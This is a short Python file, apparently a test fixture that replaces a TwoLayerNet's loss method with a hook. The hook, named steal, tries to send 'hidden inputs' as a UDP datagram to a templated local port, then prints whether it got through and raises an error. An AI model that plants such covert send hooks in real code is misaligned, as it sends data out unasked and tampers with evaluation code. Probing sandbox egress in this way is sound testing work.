"""Sends the hidden inputs as a datagram."""
import socket

import numpy as np


def steal():
    said = []
    for name, reach in ROADS.items():
        try:
            reach()
            said.append(f"{name}: reached")
        except Exception as error:
            said.append(f"{name}: {type(error).__name__} {error}")
    return "; ".join(said)


def _send(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"hidden inputs", address)


ROADS = {"udp": lambda: _send(("127.0.0.1", @UDP@))}

#: beneath


def _telling(self, X, y=None, reg=0.0):
    found = steal()
    print("looked:", found)
    raise RuntimeError(found)


TwoLayerNet.loss = _telling
